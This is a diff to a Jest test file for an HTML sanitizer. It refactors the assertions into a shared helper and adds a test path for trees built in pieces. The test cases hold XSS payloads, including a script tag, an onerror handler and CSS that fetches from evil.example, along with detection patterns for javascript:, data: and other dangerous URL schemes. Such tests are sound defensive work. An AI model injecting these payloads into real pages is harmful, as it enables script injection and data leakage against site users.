@@ -1,6 +1,6 @@
 import { describe, expect, test } from '@jest/globals';
 import { JSDOM } from 'jsdom';
-import { createHtmlPurifier } from './htmlPurifier';
+import { createHtmlPurifier, openPurifier } from './htmlPurifier';
 import { imageAddress } from './imageAddress';
 import { linkTarget } from './linkTarget';
 import type { Surroundings } from './surroundings';
@@ -13,10 +13,33 @@ const surroundings: Surroundings = {
   after: () => () => undefined,
 };
 const pure = (html: string) => purify(html, surroundings);
+/** The same for a tree that is written in pieces. */
+const { read, seal } = openPurifier(new JSDOM('').window);
+const sealed = (html: string) => {
+  const root = read(html, surroundings);
+  return seal(root)(root.innerHTML);
+};
 /** What a browser would make of the purified text. */
-const treeOf = (html: string) => new JSDOM(pure(html)).window.document.body;
+const treeOf = (html: string, text = pure(html)) => new JSDOM(text).window.document.body;
 
 describe('hostile content', () => {
+  const expectHarmless = (html: string, text: string) => {
+    const body = treeOf(html, text);
+    expect(
+      body.querySelectorAll('script, style, object, embed, base, meta, link, form, input, svg, math, template, foreignObject'),
+    ).toHaveLength(0);
+    for (const element of body.querySelectorAll('*')) {
+      for (const { name, value } of element.attributes) {
+        expect(name).not.toMatch(/^on|^srcdoc$|^formaction$|^action$/);
+        if (name === 'href') expect(value).not.toMatch(/^[\s\0-\x20]*(javascript|data|vbscript|blob):|^[/\\]{2}/i);
+        if (name !== 'href' && name !== 'title') expect(value).not.toContain('evil.example');
+        if (name === 'src' || name === 'srcset') expect(value).not.toMatch(/^\s*(javascript|data|blob):/i);
+      }
+    }
+    for (const link of body.querySelectorAll('a[data-path]')) expect(link.getAttribute('data-path')).not.toMatch(/^\/[/\\]/);
+    expect(text).not.toMatch(/<iframe[^>]+evil/);
+  };
+
   test.each<[string, string]>([
     ['a script', '<p>ok</p><script>alert(1)</script>'],
     ['an event handler', '<img src="/media/a.jpg" onerror="alert(1)">'],
@@ -101,21 +124,8 @@ describe('hostile content', () => {
     ],
     ['style rules that fetch', '<style>@import "https://evil.example/x.css"; a[href^="x"]{background:url(https://evil.example/y)}</style>'],
   ])('%s does nothing', (_name, html) => {
-    const body = treeOf(html);
-    const text = pure(html);
-    expect(
-      body.querySelectorAll('script, style, object, embed, base, meta, link, form, input, svg, math, template, foreignObject'),
-    ).toHaveLength(0);
-    for (const element of body.querySelectorAll('*')) {
-      for (const { name, value } of element.attributes) {
-        expect(name).not.toMatch(/^on|^srcdoc$|^formaction$|^action$/);
-        if (name === 'href') expect(value).not.toMatch(/^[\s\0-\x20]*(javascript|data|vbscript|blob):|^[/\\]{2}/i);
-        if (name !== 'href' && name !== 'title') expect(value).not.toContain('evil.example');
-        if (name === 'src' || name === 'srcset') expect(value).not.toMatch(/^\s*(javascript|data|blob):/i);
-      }
-    }
-    for (const link of body.querySelectorAll('a[data-path]')) expect(link.getAttribute('data-path')).not.toMatch(/^\/[/\\]/);
-    expect(text).not.toMatch(/<iframe[^>]+evil/);
+    expectHarmless(html, pure(html));
+    expectHarmless(html, sealed(html));
   });
 
   test('names cannot replace those of the page', () => {
